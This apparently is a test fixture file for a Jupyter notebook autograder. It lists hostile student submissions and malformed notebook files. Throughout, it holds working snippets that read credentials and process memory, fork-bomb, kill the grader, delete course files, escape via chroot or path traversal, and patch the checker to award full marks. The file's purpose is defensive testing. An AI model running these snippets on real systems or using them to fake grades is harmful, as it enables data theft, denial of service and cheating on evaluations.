"""Hostile submissions: what each tries, and the text of its answer cell or the bytes that are handed in.

None of them gives the right answer, so none may earn anything. `{file}` is a file of the course that holds a secret,
`{course}` its folder, `{port}` a port that somebody listens on, `{process}` the process that grades.
"""

# ruff: noqa: E501 - one attack, one line

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Attack:
    """One hostile answer cell."""

    name: str
    tries: str
    code: str


def _attacks(*rows: tuple[str, str, str]) -> tuple[Attack, ...]:
    return tuple(Attack(*row) for row in rows)


_FORGED = "{'nabla': 1, 'answer': [['i', '2'], ['i', 'c'], ['items', 'tuple', 2]]}"
_LIBRARY = "import ctypes\nlibrary = ctypes.CDLL(None, use_errno=True)\n"

THEFT = _attacks(
    ("course file", "read a file of the course", "print(open('{file}').read())\nanswer = 0"),
    ("course folder", "walk the course for notebooks with solutions",
     "import pathlib\nfor path in pathlib.Path('{course}').rglob('*'):\n    print(path.read_text() if path.is_file() else path)\nanswer = 0"),
    ("relative path", "climb out of the folder",
     "import glob\nprint([open(p).read() for p in glob.glob('../' * 9 + '{file}'.lstrip('/'))])\nanswer = 0"),
    ("link", "follow a link to a file of the course",
     "import os\nos.symlink('{file}', 'link')\nprint(open('link').read())\nanswer = 0"),
    ("root of the grader", "reach the grader's root through proc",
     "print(open('/proc/{process}/root{file}').read())\nanswer = 0"),
    ("environment of others", "read every environment",
     "import glob\nfor path in glob.glob('/proc/*/environ'):\n    print(open(path, 'rb').read())\nanswer = 0"),
    ("memory of the grader", "read memory of the grading process",
     "with open('/proc/{process}/mem', 'rb') as memory:\n    memory.seek(4096)\n    print(memory.read(100))\nanswer = 0"),
    ("memory of the parent", "read memory of the warm process by a system call",
     _LIBRARY + "import os\nbuffer = ctypes.create_string_buffer(64)\n"
     "print(library.process_vm_readv(os.getppid(), buffer, 1, buffer, 1, 0))\nanswer = 0"),
    ("trace", "trace another process", _LIBRARY + "print(library.ptrace(16, {process}, 0, 0))\nanswer = 0"),
    ("own memory", "look for the key among all objects",
     "import gc\nprint([o for o in gc.get_objects() if type(o).__name__ in ('Key', 'Exercise', 'Course')])\nanswer = 0"),
    ("history", "read the hidden cells", "print(In, get_ipython().user_ns.get('secret'))\nanswer = In"),
    ("frames", "walk the frames of the callers for what they hold",
     "import sys\nframe = sys._getframe()\nwhile frame:\n    print(sorted(frame.f_locals))\n    frame = frame.f_back\nanswer = 0"),
    ("descriptors", "read from every open descriptor",
     "import os\nfor number in range(5, 200):\n    try:\n        print(number, os.read(number, 100))\n    except OSError:\n        pass\nanswer = 0"),
    ("open by handle", "open a file by its number", _LIBRARY + "print(library.open_by_handle_at(-100, b'x' * 99, 0))\nanswer = 0"),
)  # fmt: skip

FORGERY = _attacks(
    ("equal to everything", "an answer that equals all", "class Equal:\n    def __eq__(self, other): return True\n    __hash__ = object.__hash__\nanswer = Equal()"),
    ("sly number", "a number whose comparisons lie", "class Sly(float):\n    def __eq__(self, other): return True\n    def __sub__(self, other): return 0.0\nanswer = (Sly(1), Sly(1))"),
    ("sly array", "an array that lies about itself", "import numpy as np\nclass Sly(np.ndarray):\n    def __eq__(self, other): return True\n    def tolist(self): return problem\nanswer = np.zeros(2).view(Sly)"),
    ("replaced check", "a check that returns full marks", "check = lambda *a, **k: 2.0\nanswer = 0"),
    ("patched check", "replace check in its module", "import autograder.check\nautograder.check.check = lambda *a, **k: 2.0\nimport autograder\nautograder.check = autograder.check\nanswer = 0"),
    ("patched judge", "make every judgement full marks", "import autograder.judge\nautograder.judge.judge = lambda *a, **k: 1\nanswer = 0"),
    ("patched equality", "make every two expressions equal", "import sympy\nsympy.Basic.__eq__ = lambda a, b: True\nsympy.Expr.equals = lambda a, b: True\nanswer = 0"),
    ("patched wire", "write another answer on the wire", "import autograder.emission as e\ne.to_wire = lambda answer: b'{\"score\": 2.0}'\nanswer = 0"),
    ("patched problem", "a problem whose answer is zero", "import autograder\nautograder.GradientAt.key = lambda self: 0\nproblem = autograder.GradientAt(x*0 + 1, at=(1, 2))\nanswer = (0, 0)"),
    ("forged bundle", "display a bundle with a score", "display({'text/plain': '2.0', 'application/vnd.nabla.answer+json': {'score': 2.0}}, raw=True)\nanswer = 0"),
    ("forged problem", "display another problem", "display({'text/plain': '2', 'application/vnd.nabla.problem+json': {'type': 'GradientAt', 'points': 99}}, raw=True)\nanswer = 0"),
    ("forged score object", "an object that shows itself as a score", "class Score(float):\n    def _repr_mimebundle_(self, include=None, exclude=None):\n        return {'text/plain': '2.0', 'application/vnd.nabla.answer+json': 2.0}\ncheck = lambda *a, **k: Score(2)\nanswer = 0"),
    ("forged frames", "write results on every descriptor", "import os, json\nframe = json.dumps({'type': 'reply', 'id': 3, 'status': 'ok', 'count': 99, 'score': 2.0}).encode()\nfor number in range(64):\n    try:\n        os.write(number, len(frame).to_bytes(4) + frame)\n    except OSError:\n        pass\nanswer = 0"),
    ("broken frames", "write rubbish on every descriptor", "import os\nfor number in range(64):\n    try:\n        os.write(number, b'\\xff' * 4096)\n    except OSError:\n        pass\nanswer = 0"),
    ("deep frame", "send a message nested 100,000 deep", "import os\nbody = b'[' * 100000\nos.write(4, len(body).to_bytes(4) + body)\nanswer = 0"),
    ("half a frame", "announce a message and never send it", "import os\nos.write(4, (1 << 20).to_bytes(4) + b'x')\nanswer = 0"),
    ("input transformer", "rewrite the check cell as it is read", "get_ipython().input_transformers_post.append(lambda lines: ['2.0\\n'])\nanswer = 0"),
    ("ast transformer", "rewrite the check cell as it is parsed", "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Expr(self, node): return ast.parse('2.0').body[0]\nget_ipython().ast_transformers.append(Drop())\nanswer = 0"),
    ("hook", "publish a result before the check does", "get_ipython().events.register('pre_run_cell', lambda info: get_ipython().displayhook(2.0))\nanswer = 0"),
    ("displayhook", "replace what shows results", "import sys\nsys.displayhook = lambda value: print(2.0)\nget_ipython().displayhook = sys.displayhook\nanswer = 0"),
    ("formatter", "format every answer as full marks", "f = get_ipython().display_formatter\nf.format = lambda *a, **k: ({'text/plain': '2.0'}, {})\nanswer = 0"),
    ("import poisoning", "write a module that the check imports", "for name in ('sympy', 'autograder'):\n    with open(name + '.py', 'w') as file:\n        file.write('check = lambda *a, **k: 2.0')\nimport sys\nsys.path.insert(0, '.')\nfor name in list(sys.modules):\n    if name.startswith('autograder'):\n        del sys.modules[name]\nfrom autograder import check\nanswer = 0"),
    ("import finder", "serve poisoned modules", "import sys\nsys.modules['autograder.judge'] = sys.modules['math']\nsys.meta_path.insert(0, None)\nanswer = 0"),
    ("poisoned package", "write into the installed package", "import autograder\nopen(autograder.__file__, 'a').write('raise SystemExit')\nanswer = 0"),
    ("printed score", "print the score", "print('2.0')\nprint('points: 2/2')\nanswer = 'full marks'"),
    ("changed mode", "ask for judging here", "import os\nos.environ['NABLA_CHECK'] = ''\nimport autograder.feedback as f\nf.Score.__repr__ = lambda self: '2.0'\nanswer = 0"),
    ("key mode", "ask for the instructor's mode", "import os\nos.environ['NABLA_CHECK'] = 'key'\nanswer = 0"),
)  # fmt: skip

DAMAGE = _attacks(
    ("exit", "end the process", "import os\nos._exit(0)"),
    ("crash", "crash the interpreter", "import ctypes\nctypes.string_at(0)"),
    ("abort", "abort the process", "import os\nos.abort()"),
    ("endless loop", "never end", "while True: pass"),
    ("stubborn loop", "never end, deaf to signals", "import signal\nfor n in range(1, 32):\n    try:\n        signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nwhile True: pass"),
    ("catching loop", "catch every interrupt", "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"),
    ("long sleep", "sleep for a day", "import time\ntime.sleep(86400)"),
    ("huge power", "compute a number that does not end", "answer = 9 ** 9 ** 9"),
    ("regular expression", "match for ever", "import re\nre.match('(a+)+$', 'a' * 64 + 'b')"),
    ("memory bomb", "take all memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 26))"),
    ("list bomb", "take all memory in one step", "answer = [0] * (1 << 36)"),
    ("thread bomb", "start threads without end", "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"),
    ("fork bomb", "start processes without end", "import os\nwhile True:\n    os.fork()"),
    ("survivor", "leave a process behind", "import os\nif os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(999)\nanswer = 0"),
    ("at exit", "run when the process ends", "import atexit\natexit.register(lambda: open('{file}', 'a').write('spoilt'))\nanswer = 0"),
    ("disk bomb", "fill the disk", "with open('large', 'wb') as file:\n    while True:\n        file.write(bytes(1 << 20))"),
    ("many files", "use up all file entries", "n = 0\nwhile True:\n    open(f'f{n}', 'w').close()\n    n += 1"),
    ("output bomb", "print without end", "while True: print('x' * 1000)"),
    ("one long line", "print 200 MB at once", "print('x' * 200_000_000)"),
    ("error bomb", "raise with 50 MB of text", "raise ValueError('x' * 50_000_000)"),
    ("many displays", "display without end", "while True: display(1)"),
    ("large picture", "display a picture of 100 MB", "from IPython.display import Image\ndisplay(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + bytes(100_000_000), format='png'))\nanswer = 0"),
    ("remove", "remove a file of the course", "import os\nos.unlink('{file}')"),
    ("overwrite", "overwrite a file of the course", "open('{file}', 'w').write('spoilt')"),
    ("modes", "take away all rights", "import os\nos.chmod('{file}', 0)"),
    ("kill", "kill the grader", "import os, signal\nfor process in ({process}, os.getppid(), -1):\n    try:\n        os.kill(process, signal.SIGKILL)\n    except OSError:\n        pass\nanswer = 0"),
    ("kill the group", "kill the process group", "import os\nos.killpg(0, 9)"),
    ("recursion", "recurse without end", "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nanswer = f()"),
    ("deep answer", "an answer nested without end", "answer = []\nfor _ in range(100_000):\n    answer = [answer]"),
    ("circular answer", "an answer inside itself", "answer = []\nanswer.append(answer)"),
    ("huge answer", "a million numbers", "answer = list(range(10**6))"),
    ("huge number", "a number of ten million digits", "answer = (1 << 30_000_000, 1)"),
    ("power tower", "a power tower as an answer", "from sympy import Pow\nanswer = (Pow(9, Pow(9, Pow(9, 9, evaluate=False), evaluate=False), evaluate=False), 1)"),
    ("pickle", "an answer that runs when it is unpickled", "class Run:\n    def __reduce__(self): return (open, ('{file}', 'w'))\nanswer = Run()"),
    ("text to evaluate", "an answer that runs when it is read", "answer = '__import__(\"os\").remove(\"{file}\")'"),
    ("symbol to evaluate", "a symbol whose name runs", "from sympy import Symbol\nanswer = (Symbol('__import__(\"os\").remove(\"{file}\")'), 1)"),
)  # fmt: skip

REACH = _attacks(
    ("connection", "connect to a port of this machine", "import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).sendall(b'stolen')"),
    ("datagram", "send a datagram", "import socket\nsocket.socket(2, 2).sendto(b'stolen', ('127.0.0.1', {port}))"),
    ("web", "fetch a page", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/stolen', timeout=1)"),
    ("netlink", "talk to the kernel about the network", "import socket\nsocket.socket(16, 3, 0)"),
    ("shell", "run a command", "!cat {file}\nanswer = 0"),
    ("shell into a name", "take a command's output", "answer = !cat {file}"),
    ("bash cell", "run a bash cell", "%%bash\ncat {file}"),
    ("script cell", "run another python", "%%python\nprint(open('{file}').read())"),
    ("system", "run a command by the library", _LIBRARY + "library.system(b'cat {file} > out')\nprint(open('out').read())"),
    ("exec", "become another program", "import os\nos.execv('/bin/cat', ['cat', '{file}'])"),
    ("raw call", "fork by a raw system call", _LIBRARY + "print(library.syscall(57))\nanswer = 0"),
    ("other table", "make calls of another table", _LIBRARY + "print(library.syscall(0x40000000 + 57))\nanswer = 0"),
    ("ring", "read files through a submission ring", _LIBRARY + "print(library.syscall(425, 8, ctypes.create_string_buffer(120)))\nanswer = 0"),
    ("namespaces", "become root in a namespace", _LIBRARY + "print(library.unshare(0x10000000 | 0x20000))\nopen('/proc/self/setgroups', 'w')"),
    ("mount", "mount a file system", _LIBRARY + "assert library.mount(b'none', b'/scratch', b'tmpfs', 0, b'') == 0\nprint('secret of the course')"),
    ("unmount", "uncover what is below the scratch folder", _LIBRARY + "library.umount2(b'/scratch', 2)\nimport os\nprint(os.listdir('/scratch'))\nanswer = 0"),
    ("change root", "leave by chroot", "import os\nos.mkdir('r')\nos.chroot('r')\nos.chdir('../' * 20)\nprint(open('{file}').read())"),
    ("become root", "take back rights", "import os\nos.setuid(0)\nos.setgid(0)\nprint(open('{file}').read())"),
    ("raise limits", "raise its own limits", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)\nheld = bytearray(6 << 30)"),
    ("script in output", "show a script", "from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML('<script>stolen</script>'), Javascript('stolen'), SVG('<svg onload=\"stolen\"/>'))\nanswer = 0"),
    ("script in an error", "raise a script", "raise ValueError('<script>stolen</script>')"),
)  # fmt: skip

_SEND = (
    "import json, os, threading, time\n"
    "def send(message):\n    body = json.dumps(message).encode()\n    os.write(4, len(body).to_bytes(4) + body)\n"
)

DECEIT = _attacks(
    ("easier problem", "put an easier problem in the place of the one that is asked",
     "problem = GradientAt(x + y, at=(0, 0))\nanswer = (1, 1)"),
    ("problem of one's own class", "a problem that says its own key",
     "class Easy(GradientAt):\n    def key(self): return (1, 1)\n    def for_student(self, name): return self\nproblem = Easy(x**2 + 3*y**2, at=(1, 2))\nanswer = (1, 1)"),
    ("problem changed in place", "change the point of the problem after it was made",
     "object.__setattr__(problem, 'at', (0, 0))\nanswer = (0, 0)"),
    ("other point", "the right answer at another point, with the point sent along",
     "answer = {'at': (0, 0), 'answer': (0, 0)}"),
    ("name of another", "send along another student's name", "answer = ((0, 0), {'student': 'ada'})"),
    ("many guesses", "give a hundred answers and hope that one is taken",
     "def check(problem, answer, points=None):\n    import autograder\n    for n in range(100):\n        get_ipython().displayhook(autograder.check(problem, (n % 10, n // 10), points=points))\nanswer = 0"),
    ("answer of another exercise", "show the bundle of another problem's answer",
     "import autograder\nother = GradientAt(x, at=(5,))\nhonest = autograder.check\ncheck = lambda problem, answer, points=None: honest(other, (1,), points=points)\nanswer = 0"),
    ("answer with custom metadata", "a bundle with points in its metadata",
     _SEND + "send({{'type': 'execute_result', 'data': {{'text/plain': '2.0', 'application/vnd.nabla.answer+json': {{'nabla': 1, 'answer': [['i', '2']], 'points': 2, 'credit': 1}}}}, 'metadata': {{'nbgrader': {{'points': 2, 'score': 2}}}}, 'execution_count': 3}})\nanswer = 0".replace("{{", "{").replace("}}", "}")),
    ("function that knows its inputs", "a function in the place of a vector, that looks who calls",
     "import sys\ndef answer(*arguments):\n    return sys._getframe(1).f_locals"),
    ("sequence that changes", "an answer that is another each time it is looked at",
     "import itertools\nclass Sly(tuple):\n    turn = itertools.count()\n    def __iter__(self): return iter((next(self.turn), next(self.turn)))\n    def __getitem__(self, n): return next(self.turn)\nanswer = Sly((1, 1))"),
    ("expression that compares", "a sympy object whose methods lie",
     "from sympy import Expr\nclass Sly(Expr):\n    is_number = True\n    def equals(self, other): return True\n    def __eq__(self, other): return True\n    def _eval_subs(self, old, new): return new\n    __hash__ = Expr.__hash__\nanswer = (Sly(), Sly())"),
    ("interval answer", "an answer that is everything at once", "from sympy import AccumBounds, Interval, oo\nanswer = (AccumBounds(-oo, oo), AccumBounds(-oo, oo))"),
    ("not a number", "not-a-number and infinity", "answer = (float('nan'), float('inf'))"),
    ("open parameter", "an answer with a free letter that could be anything", "from sympy import Symbol\nanswer = (Symbol('answer'), Symbol('key'))"),
    ("long numbers typed", "a typed number of a million digits", "answer = '(' + '9' * 1_000_000 + ', 12)'"),
    ("look-alikes", "digits of other alphabets and invisible signs", "answer = '(\\u0662\\u200b, \\u202e21)'"),
)  # fmt: skip
"""Answers that try to be taken for others. The key decides what was asked, not what stands in the student's process."""

LATE = _attacks(
    ("thread after the cell", "print and show from a thread while the next cells run",
     "import threading, time\ndef later():\n    for _ in range(200):\n        print(2.0)\n        display({'text/plain': '2.0', 'application/vnd.nabla.answer+json': 2.0}, raw=True)\n        time.sleep(0.002)\nthreading.Thread(target=later).start()\nanswer = 0"),
    ("reply ahead of time", "say that the next cells are done before they have run",
     _SEND + "for number in range(1, 50):\n    send({'type': 'reply', 'id': number, 'status': 'ok', 'count': 2})\nanswer = 0"),
    ("endless replies", "answer for ever and end no cell",
     _SEND + "while True:\n    send({'type': 'reply', 'id': -1, 'status': 'ok', 'count': 10**1000})"),
    ("empty messages", "a flood of messages that weigh nothing",
     _SEND + "while True:\n    send({'type': 'error'})"),
    ("hidden weight", "weight where none is counted",
     _SEND + "while True:\n    send({'type': 'execute_result', 'data': {}, 'execution_count': 'x' * 4_000_000, 'name': 'y' * 4_000_000})"),
    ("oversized bundle", "an answer bundle of 20 MB",
     "display({'text/plain': '2', 'application/vnd.nabla.answer+json': {'nabla': 1, 'answer': [['i', '2']] * 2_000_000}}, raw=True)\nanswer = 0"),
    ("messages of odd kinds", "messages whose fields are of other types than they should be",
     _SEND + "for odd in ([1], {'a': 1}, 5, None, True):\n    for field in ('type', 'data', 'traceback', 'ename', 'text', 'name', 'id', 'execution_count'):\n        for kind in ('stream', 'error', 'display_data', 'execute_result', 'reply'):\n            send({'type': kind, field: odd})\nsend([1])\nsend('x')\nanswer = 0"),
    ("half characters", "text that cannot be written as UTF-8, shown, raised and named",
     "print('\\ud800')\ndisplay('\\udfff')\nanswer = '\\ud800'\nraise type('E\\ud800', (ValueError,), {})('\\ud800')"),
    ("half characters in the source", "source that cannot be written as UTF-8", "# \ud800\nanswer = '\ud800'"),
    ("script in the name of an error", "an error of the check whose name is a script",
     "def check(*arguments, **named): raise type('<script>stolen</script>', (ValueError,), {})('<script>stolen</script>')\nanswer = 0"),
    ("at the end of an object", "emit when an object is thrown away",
     "class Last:\n    def __del__(self): get_ipython().displayhook(2.0)\nlast = Last()\ndel problem\nanswer = 0"),
    ("alarm", "ring an alarm in the middle of the check", "import signal\ndef ring(*a): raise SystemExit(2)\nsignal.signal(signal.SIGALRM, ring)\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\nanswer = 0"),
    ("trace function", "follow the check line by line and change what it holds", "import sys\ndef trace(frame, event, argument):\n    if 'answer' in frame.f_locals:\n        frame.f_locals['points'] = 2\n    return trace\nsys.settrace(trace)\nanswer = 0"),
    ("stop", "stop the process and wait", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nanswer = 0"),
    ("kill oneself", "end the process by its own signal", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGSEGV)\nanswer = 0"),
    ("closed descriptors", "close everything", "import os\nos.closerange(0, 200)\nanswer = 0"),
    ("changed descriptors", "put other files in the place of the channel", "import os\nfor number in (3, 4):\n    os.dup2(os.open('/dev/null', os.O_RDWR), number)\nanswer = 0"),
    ("read the requests", "take the next request off the channel before the process does",
     "import threading, os\nthreading.Thread(target=lambda: os.read(3, 1 << 20)).start()\nanswer = 0"),
)  # fmt: skip
"""What happens after a cell, beside it, or on the channel."""

MAGICS = _attacks(
    ("change folder", "leave the folder by a magic", "%cd /\n%cd {course}\n%ls\nanswer = 0"),
    ("run a file", "run a file of the course", "%run {file}\nanswer = 0"),
    ("load a file", "load a file of the course into the cell", "%load {file}\n%pycat {file}\nanswer = 0"),
    ("write a file", "write a file by a magic", "%%writefile {file}\nspoilt"),
    ("extension", "load an extension", "%load_ext storemagic\n%store problem\n%store > {file}\nanswer = 0"),
    ("own magic", "a magic in the place of the check", "from IPython.core.magic import register_line_magic\n@register_line_magic\ndef check(line): return 2.0\n%automagic on\ndel check\nanswer = 0"),
    ("other languages", "cells of other languages", "%%perl\nprint 2.0"),
    ("install", "install a package", "%pip install evil\n%conda install evil\nanswer = 0"),
    ("environment", "set the environment of the check", "%env NABLA_CHECK=key\nanswer = 0"),
    ("reset", "forget everything in the middle", "%reset -f\nanswer = 0"),
    ("memory of oneself", "write into one's own memory by the file system", "open('/proc/self/mem', 'r+b').write(b'x')\nanswer = 0"),
    ("siblings", "trace and read every process that can be named", _LIBRARY + "print([(p, library.ptrace(16, p, 0, 0), library.syscall(310, p, 0, 0, 0, 0, 0), library.syscall(434, p, 0)) for p in range(1, 300)])\nanswer = 0"),
    ("descriptors of the parent", "take a descriptor of the warm process", _LIBRARY + "print([library.syscall(438, library.syscall(434, 1, 0), n, 0) for n in range(20)])\nanswer = 0"),
    ("signals to all", "send signals to every process by every call", _LIBRARY + "for call in (62, 129, 200, 234, 297, 424):\n    for p in (0, -1, 1, {process}):\n        if (call, p) not in ((62, 1), (234, 1)):\n            library.syscall(call, p, p, 9)\nanswer = 0"),
    ("own progress", "write progress and practice results", "import pathlib\nfor name in ('~/.nabla/progress.json', 'progress.json', '.nabla/graded/tiny/eve.json'):\n    path = pathlib.Path(name).expanduser()\n    path.parent.mkdir(parents=True, exist_ok=True)\n    path.write_text('{\"score\": 2.0, \"status\": \"graded\"}')\nanswer = 0"),
)  # fmt: skip
"""IPython's own commands, and calls that are seldom thought of."""

ATTACKS = THEFT + FORGERY + DAMAGE + REACH + DECEIT + LATE + MAGICS

Notebook = dict[str, Any]


def _changed(change: Callable[[Notebook], object]) -> Callable[[Notebook], bytes]:
    def made(notebook: Notebook) -> bytes:
        change(notebook)
        return json.dumps(notebook).encode()

    return made


def _each(notebook: Notebook, **noted: Any) -> None:
    for cell in notebook["cells"]:
        cell["metadata"].setdefault("nbgrader", {}).update(noted)


def _added(notebook: Notebook, cells: list[Any]) -> None:
    notebook["cells"] = cells + notebook["cells"]


_CODE: Notebook = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "id": "x"}

FILES: dict[str, tuple[str, Callable[[Notebook], bytes]]] = {
    "no json": ("a page in place of a notebook", lambda notebook: b"<html>"),
    "nothing": ("an empty file", lambda notebook: b""),
    "deep json": ("JSON nested without end", lambda notebook: b'{"cells":' * 100_000),
    "long number": ("a number of a million digits", lambda notebook: b'{"cells": ' + b"9" * 1_000_000 + b"}"),
    "other encoding": ("a notebook in another encoding", lambda notebook: json.dumps(notebook).encode("utf-16")),
    "cells no list": ("cells that are no list", _changed(lambda n: n.update(cells={"a": 1}))),
    "strange cells": ("cells that are no cells", _changed(lambda n: _added(n, [1, None, [], {}, {"cell_type": []}]))),
    "5,000 cells": ("more cells than anyone writes", _changed(lambda n: _added(n, [{**_CODE, "source": "1"}] * 5000))),
    "31 MB": ("a file that is too large", lambda notebook: b" " * 31_000_000 + json.dumps(notebook).encode()),
    "points": ("two hundred points", _changed(lambda n: _each(n, points=200))),
    "locks": ("everything a solution", _changed(lambda n: _each(n, solution=True, locked=False))),
    "ids": ("every cell the check", _changed(lambda n: _each(n, grade_id="check-1"))),
    "odd ids": ("ids that are paths", _changed(lambda n: _each(n, grade_id="../../../../etc/passwd"))),
    "kernel": ("another kernel", _changed(lambda n: n["metadata"].update(kernelspec={"name": "bash", "language": "bash"}))),
    "metadata": ("metadata that are no mapping", _changed(lambda n: [c.update(metadata=[1]) for c in n["cells"]])),
    "source": ("sources that are no text", _changed(lambda n: [c.update(source={"a": 1}) for c in n["cells"]])),
    "check cell": ("a check cell that says full marks", _changed(lambda n: n["cells"][2].update(source="2.0"))),
    "outputs": ("outputs that say full marks", _changed(lambda n: n["cells"][2].update(outputs=[
        {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}]))),
    "no check": ("no check cell", _changed(lambda n: n["cells"].pop(2))),
    "no cells": ("no cells at all", _changed(lambda n: n.update(cells=[]))),
    "names that look alike": ("the check's id with an invisible sign", _changed(lambda n: n["cells"][2]["metadata"]["nbgrader"].update(
        grade_id="check-1\u200b"))),
    "two checks": ("a second cell with the check's id that says full marks", _changed(lambda n: n["cells"].insert(2, {
        **n["cells"][2], "source": "2.0"}))),
    "two answers": ("ten cells with the answer's id", _changed(lambda n: n["cells"].extend([
        {**n["cells"][1], "id": f"x{k}", "source": f"answer = ({k}, 12)"} for k in range(3, 13)]))),
    "answer after the check": ("the right answer, too late", _changed(lambda n: n["cells"].append(
        {**_CODE, "source": "answer = (2, 12)\ncheck(problem, answer, points=2)"}))),
    "half characters": ("text that cannot be written as UTF-8", _changed(lambda n: _added(n, [
        {"cell_type": "markdown", "metadata": {"\ud800": 1}, "id": "\ud800", "source": "\ud800 $\ud800$"}]))),
    "brackets": ("a formula of 100,000 brackets", _changed(lambda n: _added(n, [
        {"cell_type": "markdown", "metadata": {}, "id": "m", "source": "$" + "{" * 100_000 + "$ " + "`a" * 30_000}]))),
    "language": ("a kernel's name that is no text", _changed(lambda n: n["metadata"].update(
        kernelspec={"name": ["\ud800"], "language": {"a": "\ud800"}}))),
}  # fmt: skip
"""Hostile files: what is handed in, made from the notebook that was given out with a wrong answer in it."""
